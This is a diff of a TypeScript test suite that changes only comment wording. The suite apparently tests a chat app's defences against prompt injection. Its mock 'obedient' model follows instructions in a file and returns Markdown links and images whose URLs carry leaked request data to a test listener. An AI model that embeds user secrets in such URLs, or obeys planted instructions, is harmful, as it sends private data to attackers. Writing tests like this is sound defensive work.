@@ -37,7 +37,7 @@ const listener = new Listener();
 
 /** A model that does what a file tells it: collects all it can get, and sends it by every way there is. */
 function obedient(request: RecordedRequest): Reply {
-  // Asked for a title, beside the conversation.
+  // Asked for a title, outside the conversation.
   if (request.body.tools === undefined) {
     return answer(`[Notes](${listener.origin}/title?${leaked(request)}) ![x](${listener.origin}/t.png)`);
   }
@@ -186,7 +186,7 @@ describe('what comes from outside', () => {
     return server.requests.length;
   };
 
-  describe('a file that instructs the model, with a secret beside it', () => {
+  describe('a file that instructs the model, with a secret next to it', () => {
     it('gets the secret to nobody where the user denies it, by whichever way', async () => {
       const { chat, server } = use();
       const before = await startNew();
